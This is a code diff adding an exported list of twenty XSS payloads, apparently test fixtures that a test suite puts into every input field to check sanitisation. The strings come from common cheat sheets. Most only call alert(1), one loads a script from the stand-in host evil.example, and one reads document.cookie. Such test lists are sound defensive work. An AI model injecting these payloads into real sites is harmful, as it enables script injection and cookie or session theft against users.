@@ -1,0 +1,23 @@
+/** Payloads from the usual XSS cheat sheets; each is put into every field. */
+export const XSS = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '<a href="javascript:alert(1)">click</a>',
+  'javascript:alert(document.cookie)',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '<!--<script>alert(1)</script>-->',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<base href="javascript:/">',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<details open ontoggle=alert(1)>',
+  '" autofocus onfocus="alert(1)',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '\u003cscript\u003ealert(1)\u003c/script\u003e',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+];
